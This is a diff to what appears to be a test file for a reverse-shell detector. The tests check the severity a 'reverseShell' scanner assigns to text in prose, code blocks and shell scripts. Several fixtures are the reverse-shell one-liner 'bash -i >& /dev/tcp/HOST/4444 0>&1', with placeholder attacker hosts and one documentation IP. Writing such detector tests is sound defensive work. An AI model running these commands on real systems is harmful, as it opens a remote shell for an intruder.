@@ -30,6 +30,27 @@ describe("a shell whose input and output are a connection", () => {
   });
 });
 
+const severities = (text: string) =>
+  reverseShell.find(markText(text, "markdown")).map(({ severity }) => severity);
+
+test.each(["ATTACKER", "<your ip>", "LHOST", "ATTACKER_IP", "[address]", "{host}"])(
+  "a shell to a host that the reader would fill in is of medium severity in a sentence: %s",
+  (host) => {
+    expect(
+      severities(`The payload is often \`bash -i >& "/dev/tcp/${host}/4444" 0>&1\`, as here.`),
+    ).toEqual(["medium"]);
+    expect(severities(block(`bash -i >& "/dev/tcp/${host}/4444" 0>&1`))).toEqual([undefined]);
+  },
+);
+
+test("a shell to a named host is as bad in a sentence, and in a script of any host", () => {
+  expect(
+    severities("The payload is often `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, as here."),
+  ).toEqual([undefined]);
+  const script = markText("bash -i >& /dev/tcp/ATTACKER/4444 0>&1", "shell");
+  expect(reverseShell.find(script).map(({ severity }) => severity)).toEqual([undefined]);
+});
+
 const code = (tag: string, text: string) => `\`\`\`${tag}\n${text}\n\`\`\``;
 
 describe("a connection that runs a shell in", () => {
